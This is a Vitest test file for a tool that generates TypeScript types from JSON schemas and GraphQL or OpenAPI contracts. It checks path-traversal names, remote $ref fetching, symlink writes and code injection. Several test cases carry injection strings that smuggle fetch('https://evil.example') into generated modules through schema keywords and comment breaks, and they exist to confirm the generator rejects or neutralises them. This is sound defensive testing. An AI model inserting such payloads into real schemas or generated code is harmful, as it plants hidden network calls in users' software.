import { spawnSync } from 'node:child_process';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { transformSync } from 'esbuild';
import { afterEach, expect, it } from 'vitest';
import { fromRoot } from '../../client/paths.mjs';
import { files } from '../files.mjs';
import { differing, write } from '../folder.mjs';
// The compilers, which `files` loads when it needs one: their loading takes seconds, and is no test's time.
import '../graphql.mjs';
import '../openapi.mjs';

const folders = [];

/** A folder of its own with an app that publishes, consumes and asks. */
async function app(changes = {}, more = {}) {
  const folder = await mkdtemp(join(tmpdir(), 'types-'));
  folders.push(folder);
  const manifest = {
    name: '@home/lamps',
    version: '1.0.0',
    publishes: { 'lamp.lit/1': 'lit.json' },
    consumes: { 'room.left/2': 'left.json' },
    bff: { api: 'graphql', contract: 'schema.graphql', uses: ['lamp.graphql'] },
    ...changes,
  };
  const all = {
    'app.json': JSON.stringify(manifest),
    'lit.json': '{"title": "X", "type": "object", "required": ["room"], "properties": {"room": {"type": "string"}}}',
    'left.json': '{"type": "array", "items": {"enum": ["hall", "cellar"]}}',
    'schema.graphql': 'type Query { lamp(id: ID!): Lamp } type Lamp { room: String since: DateTime! } scalar DateTime',
    'lamp.graphql': 'query Lamp($id: ID!) { lamp(id: $id) { ...Parts } } fragment Parts on Lamp { room since }',
    ...more,
  };
  await Promise.all(Object.entries(all).map(([path, text]) => writeFile(join(folder, path), text)));
  return folder;
}

const out = (folder) => join(folder, 'src/portico');
const changed = async (folder) => differing(out(folder), await files(folder));
const generate = async (folder) => write(out(folder), await files(folder));

afterEach(async () => {
  await Promise.all(folders.splice(0).map((folder) => rm(folder, { recursive: true })));
});

it('writes what messages and operations are, and knows when a schema has changed since', async () => {
  const folder = await app();
  await generate(folder);
  const text = (path) => readFile(join(out(folder), path), 'utf8');
  expect(await text('messages.ts')).toContain('"lamp.lit/1": SentLampLit1;');
  expect(await text('publishes/lamp.lit-1.ts')).toMatch(/export interface LampLit1 {\s+room: string/);
  expect(await text('consumes/room.left-2.ts')).toContain('("hall" | "cellar")[]');
  const api = await text('api.ts');
  expect(api).toContain('readonly since: string');
  expect(api).toContain('query Lamp($id: ID!) { lamp(id: $id) { ...Parts } } fragment Parts on Lamp { room since }');
  expect(await changed(folder)).toEqual([]);
  await writeFile(join(folder, 'left.json'), '{"type": "string"}');
  await writeFile(join(out(folder), 'old.ts'), '// Made by `portico types` from what was\n');
  expect(await changed(folder)).toEqual(['consumes/room.left-2.ts', 'old.ts']);
  await generate(folder);
  expect(await changed(folder)).toEqual([]);
});

it.each([
  ['a schema that is not there', { publishes: { 'a/1': 'none.json' } }, {}, /none\.json, which app\.json names$/],
  ['a schema that is not JSON', {}, { 'lit.json': '{' }, /^lit\.json: /],
  ['an operation that the contract does not have', {}, { 'lamp.graphql': 'query Lamp { cat }' }, /^schema\.graphql: /],
  ['a contract that is none', {}, { 'schema.graphql': 'type' }, /^schema\.graphql: /],
])('refuses %s in a sentence', async (_what, changes, more, why) => {
  await expect(files(await app(changes, more))).rejects.toThrow(why);
});

it.each(['../../../../out/1', 'a/../../out/1', 'lamp.lit', '__proto__/1'])(
  'makes no file of the name %s',
  async (name) => {
    const folder = await app({ publishes: { [name]: 'lit.json' } });
    await expect(files(folder)).rejects.toThrow(/is no name of a message/);
  },
);

it('fetches nothing that a schema or a contract names elsewhere', async () => {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(request.url);
    response.end('{"type": "string"}');
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    const there = `http://127.0.0.1:${server.address().port}`;
    const reference = (path) => JSON.stringify({ properties: { a: { $ref: path } } });
    await files(await app({}, { 'lit.json': reference(`${there}/schema`) })).catch(() => {});
    const secret = { 'secret.json': '{"title": "Secret", "const": "do-not-tell"}' };
    const told = await files(await app({}, { ...secret, 'lit.json': reference('secret.json') })).catch(String);
    expect(JSON.stringify(told)).not.toContain('do-not-tell');
    const schema = { $ref: `${there}/contract` };
    const answer = { 200: { description: 'ok', content: { 'application/json': { schema } } } };
    const contract = {
      openapi: '3.1.0',
      info: { title: 't', version: '1' },
      paths: { '/a': { get: { responses: answer } } },
    };
    await files(await app({ bff: { contract: 'c.json' } }, { 'c.json': JSON.stringify(contract) })).catch(() => {});
    expect(asked).toEqual([]);
  } finally {
    server.close();
  }
});

it.each([
  ['tsType', 'string; }\nexport const pwned = fetch("https://evil.example");\nexport interface Z {'],
  ['tsType', ['string; fetch("https://evil.example")']],
  ['tsEnumNames', ['A = fetch("https://evil.example"), B']],
])('writes no code of whoever wrote a schema: %s', async (keyword, code) => {
  const schema = { type: 'object', properties: { a: { enum: ['a'], [keyword]: code } } };
  await expect(files(await app({}, { 'left.json': JSON.stringify(schema) }))).rejects.toThrow(
    `left.json: ${keyword} would write code into the module; leave it out`,
  );
  const named = { type: 'object', properties: { [keyword]: { type: 'number' } } };
  const made = await files(await app({}, { 'left.json': JSON.stringify(named) }));
  expect(made['consumes/room.left-2.ts']).toContain(`${keyword}?: number`);
});

it('leaves what a schema says in comments and quotes', async () => {
  const end = '*/ fetch("https://evil.example") /*';
  const schema = { type: 'object', description: end, properties: { [end]: { const: '"; fetch(); "' } } };
  const { 'consumes/room.left-2.ts': made } = await files(await app({}, { 'left.json': JSON.stringify(schema) }));
  const { code } = transformSync(made, { loader: 'ts' });
  expect(code).toBe('');
});

it('takes nothing away that it did not make, and writes through no link', async () => {
  const folder = await app();
  await mkdir(out(folder), { recursive: true });
  await writeFile(join(out(folder), 'mine.ts'), 'export const mine = 1;\n');
  await expect(generate(folder)).rejects.toThrow(/mine\.ts was not made by portico types/);
  expect(await readdir(out(folder))).toEqual(['mine.ts']);
  const linked = await app();
  await mkdir(join(linked, 'src'));
  await symlink(out(folder), out(linked));
  await expect(generate(linked)).rejects.toThrow(/is a link/);
  expect(await readdir(out(folder))).toEqual(['mine.ts']);
});

it.each(['menu', 'checkout'])('of %s are as its app.json says', async (name) => {
  expect(await changed(fromRoot('microapps', name))).toEqual([]);
});

it('says on the command line what is wrong, and ends with 1', () => {
  const { status, stderr } = spawnSync(process.execPath, [fromRoot('tools/types/main.mjs'), tmpdir()], {
    encoding: 'utf8',
  });
  expect([status, stderr]).toEqual([1, `there is no ${join(tmpdir(), 'app.json')}; give the app's folder\n`]);
}, 30_000);
